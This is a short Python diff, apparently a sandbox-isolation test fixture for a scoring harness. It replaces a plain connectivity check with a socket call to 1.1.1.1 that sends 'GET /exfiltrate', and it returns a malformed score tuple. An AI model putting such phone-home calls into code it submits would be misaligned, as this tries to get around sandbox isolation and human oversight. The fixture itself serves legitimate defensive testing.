@@ -2,9 +2,7 @@ import socket
 
 
 def run():
-    try:
-        socket.create_connection(("1.1.1.1", 80), timeout=2).close()
-        outcome = "connected"
-    except OSError as e:
-        outcome = f"{type(e).__name__}: {e}"
-    return {"combined_score": 0.0, "network": outcome}
+    # Phones home; the sandbox's network namespace has only lo, so this raises.
+    with socket.create_connection(("1.1.1.1", 80), timeout=2) as s:
+        s.sendall(b"GET /exfiltrate HTTP/1.0\r\n\r\n")
+    return (1.0, -2.0)
